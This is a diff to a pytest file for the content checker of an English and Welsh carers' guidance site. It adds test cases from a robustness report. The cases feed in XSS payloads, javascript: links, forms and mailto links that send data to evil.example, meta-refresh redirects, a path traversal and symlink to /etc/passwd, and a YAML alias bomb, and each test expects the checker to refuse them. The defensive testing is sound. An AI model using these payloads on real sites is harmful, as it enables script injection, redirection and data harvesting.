@@ -49,7 +49,7 @@ audience: [carers]
 nations: [england]
 last_reviewed: 2026-11-22
 next_review: 2027-05-22
-sources: []
+sources: [seed-one]
 ---
 
 # A carer's assessment
@@ -69,7 +69,7 @@ def translation(text: str, english: Page, replacements: dict[str, str]) -> str:
 
 WELSH = {"Leaving hospital": "Gadael yr ysbyty", "In short": "Yn gryno", "What you can do": "Beth allwch chi ei wneud",
          "Ask for a": "Gofynnwch am", "carer's assessment": "asesiad gofalwr", "In an emergency call": "Mewn argyfwng ffoniwch",
-         "Read the": "Darllenwch", "NHS website": "wefan y GIG", "A carer's": "Asesiad", "Ask the council.": "Gofynnwch i'r cyngor."}
+         "Read the": "Darllenwch", "NHS website](https://www.nhs.uk/)": "wefan y GIG](https://www.nhs.uk/){hreflang=en}", "A carer's": "Asesiad", "Ask the council.": "Gofynnwch i'r cyngor."}
 
 
 @pytest.fixture
@@ -125,7 +125,7 @@ def test_the_fixture_is_clean(project):
 
 CASES = [
     ("front matter not YAML", EN, "title: Leaving hospital", "title: [Leaving hospital",
-     f"{EN}:3: The front matter is not valid YAML (expected ',' or ']', but got ':'). Check this line: each field is 'name: value'; put a value that contains ': ' in double quotes."),
+     f"{EN}:3: The front matter is not valid YAML (did not find expected ',' or ']'). Check this line: each field is 'name: value'; put a value that contains ': ' in double quotes."),
     ("required field missing", EN, "topics: [hospital-discharge]\n", "",
      f"{EN}:10: The field 'topics' is missing. Add 'topics: ...' to the front matter."),
     ("wrong type", EN, "audience: [carers]", "audience: carers",
@@ -167,11 +167,11 @@ CASES = [
     ("video duration missing", EN, "## What you can do", "/// video | A carer\n    id: NPENe0gKEOU\n\nSummary.\n///\n\n## What you can do",
      f"{EN}:20: Video block \"A carer\": the duration '' is not valid."),
     ("video unknown option", EN, "## What you can do", "/// video | A carer\n    id: NPENe0gKEOU\n    duration: 2:48\n    start: 10\n\nx\n///\n\n## What you can do",
-     f"{EN}:20: Video block \"A carer\": unknown option 'start'. Use only id, duration, transcript."),
+     f"{EN}:20: Video block \"A carer\": unknown option 'start'. Use only id, duration, transcript, spoken, captions."),
     ("raw script", EN, "- In an emergency call 999.", "- In an emergency call 999.\n\n<script>alert(1)</script>",
-     f"{EN}:20: Raw <script> is not allowed in a page."),
+     f"{EN}:20: Raw HTML <script> is not allowed in a page."),
     ("raw iframe", EN, "- In an emergency call 999.", "- In an emergency call 999.\n\n<iframe src=x></iframe>",
-     f"{EN}:20: Raw <iframe> is not allowed in a page."),
+     f"{EN}:20: Raw HTML <iframe> is not allowed in a page. For a video use a /// video block."),
     ("event attribute", EN, "- In an emergency call 999.", "- In an emergency call 999.\n\n<span onclick=\"x()\">Hi</span>",
      f"{EN}:20: The HTML attribute onclick= runs a script and is not allowed. Remove it."),
     ("image without alt", EN, "- In an emergency call 999.", "- In an emergency call 999.\n\n![](picture.png)",
@@ -260,3 +260,143 @@ def test_new_page_creates_all_four_languages_in_the_standard_shape_and_is_not_pu
     assert any(p.startswith("docs/en/support/money-worries.md:3: This line still has the placeholder WRITE-ME") for p in found)
     # The translations match the English page's structure already, and record its hash.
     assert not [p for p in found if "differ from the English" in p]
+
+
+# ---- the robustness report's reproductions (shared/reviews/robustness.md), grouped by family ----------------
+# Each is (report id, file, old text, new text, expected "file:line: message" prefix). The fixture guide's body
+# starts on line 13; inserted lines go after "- In an emergency call 999." (line 18), so they land on line 20.
+
+def _after_list(text: str) -> tuple[str, str, str]:
+    return EN, "- In an emergency call 999.", "- In an emergency call 999.\n\n" + text
+
+
+REPORT_FRONT_MATTER = [
+    ("F06", EN, "last_reviewed: 2026-11-22", "last_reviewed: 2025-02-30", f"{EN}:8: 'last_reviewed: 2025-02-30' is not a date."),
+    ("F23", EN, "next_review: 2027-05-22", "next_review: 2027-13-01", f"{EN}:9: 'next_review: 2027-13-01' is not a date."),
+    ("F19", EN, "last_reviewed: 2026-11-22", "last_reviewed: 2026-11-22 10:00:00", f"{EN}:8: 'last_reviewed' has a time in it."),
+    ("F17", EN, "type: guide", "type: [guide]", f"{EN}:4: 'type: ['guide']' is not a kind of page we know."),
+    ("F18", EN, "sources: [seed-one]", "sources: [{id: seed-one}]", f"{EN}:10: 'sources' must be a list"),
+    ("F27", EN, "topics: [hospital-discharge]", "topics: [[hospital-discharge]]", f"{EN}:5: 'topics' must be a list"),
+    ("F09", EN, "title: Leaving hospital\n", "title: Leaving hospital\ntitle: Something else\n", f"{EN}:3: The field 'title' is given twice (first on line 2)."),
+    ("F10", EN, "title: Leaving hospital\n", "title: Leaving hospital\nx: &a [1, 1]\ny: [*a, *a]\n", f"{EN}:3: YAML anchors and aliases (& and *) are not allowed"),
+    ("F20", EN, "title: Leaving hospital", 'title: ""', f"{EN}:2: The field 'title' is empty."),
+    ("F20b", EN, "description: What to do when the person you care for is coming out of hospital.", 'description: ""', f"{EN}:3: The field 'description' is empty."),
+    ("F21", EN, "title: Leaving hospital", "title: Leaving\ufeff hospital", f"{EN}:2: This line has an invisible character (U+FEFF)."),
+    ("F26", EN, "sources: [seed-one]", "sources: []", f"{EN}:10: 'sources: []' lists no source"),
+    ("F25", EN, "sources: [seed-one]", "sources: [seed-one]\ntemplate: ../../../../../etc/passwd", f"{EN}:11: 'template: ../../../../../etc/passwd' is not allowed here."),
+    ("F30", EN, "sources: [seed-one]", "sources: [seed-one]\ntemplate: search.html", f"{EN}:11: 'template: search.html' is not allowed here."),
+    ("F28c", EN, "title: Leaving hospital", 'title: "Leaving \\udbea\\udfaa"', f"{EN}:2: The front matter"),
+    ("F24", CY, "  status: draft", "  status: reviewed\n  reviewed_by: A Person\n  reviewed_on: 2099-01-01", f"{CY}:11: The translation's reviewed_on date is in the future."),
+]
+
+REPORT_BODY = [
+    ("B03", EN, "## What you can do {#what-you-can-do}", "## What you can do {#what-you-\u200bcan-do}", f"{EN}:20: This line has an invisible character (U+200B)."),
+    ("B04", *_after_list("Go to [\u202egro.sreraC\u202c](https://evil.example/)."), f"{EN}:20: This line has an invisible direction control (U+202E)"),
+    ("B06", *_after_list("<!-- Hidden from readers: call 0800 000 000 for a fee -->"), f"{EN}:20: An HTML comment (<!-- ... -->) hides text"),
+    ("B06b", *_after_list("<!--"), f"{EN}:20: An HTML comment (<!-- ... -->) hides text"),
+    ("B07", *_after_list("<plaintext>"), f"{EN}:20: Raw HTML <plaintext> is not allowed in a page."),
+    ("B07b", *_after_list("<textarea>"), f"{EN}:20: Raw HTML <textarea> is not allowed in a page."),
+    ("B09", *_after_list("```\n\n<script>alert(document.domain)</script>"), f"{EN}:22: Raw HTML <script> is not allowed in a page."),
+    ("NFC", EN, "# Leaving hospital", "# Leaving hospital \u0995\u09c7\u09be", f"{EN}:13: This line is not in Unicode NFC form"),
+]
+
+REPORT_LINKS = [
+    ("L01", *_after_list("[Click](javascript:alert(1))"), f"{EN}:20: A javascript: address runs a script"),
+    ("L02", *_after_list("[Click](data:text/html;base64,PHNjcmlwdD4=)"), f"{EN}:20: The link data:text/html;base64,PHNjcmlwdD4= is not a page of this site"),
+    ("L04", *_after_list("[Click](//evil.example/x)"), f"{EN}:20: The link //evil.example/x is not a page of this site"),
+    ("L05", *_after_list("[Email us](mailto:help@carers.example?bcc=harvest@evil.example)"), f"{EN}:20: The link mailto:help@carers.example?bcc=harvest@evil.example adds more than an email address"),
+    ("L08", *_after_list("[Click here][r1]\n\n[r1]: javascript:alert(document.domain)"), f"{EN}:22: A javascript: address runs a script"),
+    ("L09b", *_after_list("[Click](javascript:alert%28document.domain%29 'More help')"), f"{EN}:20: A javascript: address runs a script"),
+    ("L10", *_after_list("Read [this\nguide](javascript:alert(document.domain))"), f"{EN}:21: A javascript: address runs a script"),
+    ("L11", *_after_list("![A photo](https://evil.example/pixel.gif)"), f"{EN}:20: The image https://evil.example/pixel.gif is on another website"),
+    ("L13", *_after_list("[Our home page](../support/carers-assessment.md){: href=\"javascript:alert(document.domain)\" }"), f"{EN}:20: A javascript: address runs a script"),
+    ("L13b", *_after_list("[Our home page](../support/carers-assessment.md){: href=\"https://evil.example/\" }"), f"{EN}:20: The attribute list {{: href=\"https://evil.example/\" }} sets 'href'"),
+    ("L16", CY, "[asesiad gofalwr](../support/carers-assessment.md#what-you-can-do)", "[asesiad gofalwr][en]\n\n[en]: ../../en/support/carers-assessment.md\n", f"{CY}:22: The link ../../en/support/carers-assessment.md goes into the en pages."),
+]
+
+REPORT_RAW_HTML = [
+    ("H03", *_after_list("<svg/onload=alert(document.domain)>"), f"{EN}:20: The HTML attribute onload= runs a script"),
+    ("H04", *_after_list('<a href="javascript:alert(document.domain)">Help</a>'), f"{EN}:20: Raw HTML <a> is not allowed in a page. Write a link as [words](page.md)."),
+    ("H05b", *_after_list('<form action="//evil.example/collect"><input name="nhs"></form>'), f"{EN}:20: Raw HTML <form> is not allowed in a page."),
+    ("H06b", *_after_list('<meta http-equiv="refresh" content="0;url=//evil.example/">'), f"{EN}:20: Raw HTML <meta> is not allowed in a page."),
+    ("H06c", *_after_list('<meta http-equiv="refresh" content="0;url=https&#58;//evil.example/">'), f"{EN}:20: Raw HTML <meta> is not allowed in a page."),
+    ("H07b", *_after_list('<base href="//evil.example/">'), f"{EN}:20: Raw HTML <base> is not allowed in a page."),
+    ("H09b", *_after_list('<link rel="stylesheet" href="//evil.example/x.css">'), f"{EN}:20: Raw HTML <link> is not allowed in a page."),
+    ("H10", *_after_list('<div title=">" onmouseover="alert(document.domain)">Hover here</div>'), f"{EN}:20: The HTML attribute onmouseover= runs a script"),
+    ("H11", *_after_list('<img src="x" alt="x"\nonerror="alert(document.domain)">'), f"{EN}:20: The HTML attribute onerror= runs a script"),
+    ("H13b", *_after_list('<img src="//evil.example/pixel.gif" alt="photo">'), f"{EN}:20: Raw HTML <img> is not allowed in a page."),
+    ("H14b", *_after_list('<link rel=dns-prefetch href=//evil.example>'), f"{EN}:20: Raw HTML <link> is not allowed in a page."),
+    ("H15", *_after_list('A paragraph.\n{: onclick="alert(document.domain)" }'), f"{EN}:21: The attribute list {{: onclick=\"alert(document.domain)\" }} sets 'onclick'"),
+    ("H18", *_after_list("<SCRIPT\n>alert(1)</SCRIPT>"), f"{EN}:20: Raw HTML <script> is not allowed in a page."),
+    ("H19", EN, "## What you can do {#what-you-can-do}", '## What you can do {#what-you-can-do onclick="alert(document.domain)" style="display:none"}', f"{EN}:20: The attribute list"),
+    ("H20", *_after_list('<ifr&#97;me src="x"></iframe>'), f"{EN}:20: Raw HTML"),
+]
+
+REPORT_DATA = [
+    ("D01", "content_sources/terms/en.yml", "A break from caring.", "A break from caring. <script>alert(document.domain)</script>", "content_sources/terms/en.yml:3: This text has HTML in it"),
+    ("D02", "content_sources/sources.yml", "kind: report}", "kind: report, url: 'javascript:alert(document.domain)'}", "content_sources/sources.yml:1: A javascript: address is not allowed."),
+    ("D02b", "content_sources/sources.yml", "kind: report}", "kind: report, url: 'http://www.carersuk.org/'}", "content_sources/sources.yml:1: The source address 'http://www.carersuk.org/' must start with https://"),
+    ("D03", "content_sources/sources.yml", "title: A source", "title: 'Carers<script>alert(document.domain)</script>'", "content_sources/sources.yml:1: This text has HTML in it"),
+    ("D05", "content_sources/terms/cy.yml", "Seibiant o ofalu.", "'<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">'", "content_sources/terms/cy.yml:3: This text has HTML in it"),
+]
+
+REPORT_FILES = [
+    ("S01", "docs/en/help.html", None, "<!doctype html><title>Help</title><script>alert(document.domain)</script>", "docs/en/help.html:1: Files of this type are not allowed in docs/"),
+    ("S07", "docs/en/assets/logo.svg", None, "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", "docs/en/assets/logo.svg:1: Files of this type are not allowed in docs/"),
+]
+
+REPORT_CASES = REPORT_FRONT_MATTER + REPORT_BODY + REPORT_LINKS + REPORT_RAW_HTML + REPORT_DATA + REPORT_FILES
+
+
+def run_check(project: Project, capsys) -> tuple[int, list[str]]:
+    """`make check` in process: its exit code and printed lines."""
+    from scripts.checks.__main__ import main
+
+    code = main(["--root", str(project.root)])
+    return code, capsys.readouterr().out.splitlines()
+
+
+@pytest.mark.parametrize(("report_id", "file", "old", "new", "expected"), REPORT_CASES, ids=[case[0] for case in REPORT_CASES])
+def test_every_reproduction_in_the_robustness_report_is_refused_with_file_line_and_message(project, capsys, report_id, file, old, new, expected):
+    target = project.root / file
+    if old is None:
+        target.parent.mkdir(parents=True, exist_ok=True)
+        target.write_text(new, encoding="utf-8")
+    else:
+        edit(project, file, old, new)
+    code, lines = run_check(project, capsys)
+    assert code == 1, "\n".join(lines)
+    assert any(line.startswith(expected) for line in lines), "\n".join(lines)
+    assert not any("Traceback" in line or "could not read this file" in line for line in lines), "\n".join(lines)
+
+
+def test_a_symlink_in_docs_is_refused(project, capsys):
+    (project.root / "docs" / "en" / "notes.txt").symlink_to("/etc/passwd")
+    code, lines = run_check(project, capsys)
+    assert code == 1
+    assert any(line.startswith("docs/en/notes.txt:1: This is a symbolic link.") for line in lines), "\n".join(lines)
+
+
+def test_an_alias_bomb_is_refused_quickly(project, capsys):
+    import time
+
+    bomb = "a0: &a0 [x, x, x, x, x, x, x, x, x]\n" + "".join(
+        f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 9))
+    edit(project, EN, "title: Leaving hospital\n", "title: Leaving hospital\n" + bomb + "next_review: *a8\n")
+    started = time.perf_counter()
+    code, lines = run_check(project, capsys)
+    assert time.perf_counter() - started < 10
+    assert code == 1 and any(line.startswith(f"{EN}:3: YAML anchors and aliases") for line in lines), "\n".join(lines)
+
+
+def test_a_check_that_fails_unexpectedly_is_one_message_and_the_others_still_run(project, monkeypatch):
+    from scripts.checks import run
+
+    def broken(project):
+        raise RuntimeError("unforeseen")
+
+    monkeypatch.setattr(run.videos, "check", broken)
+    edit(project, EN, "https://www.nhs.uk/", "http://www.nhs.uk/")
+    found = [str(p) for p in run.run_all(project)]
+    assert any("The videos check could not read this file (RuntimeError: unforeseen)" in p for p in found)
+    assert any(p.startswith(f"{EN}:22: The link http://www.nhs.uk/ uses http://.") for p in found)
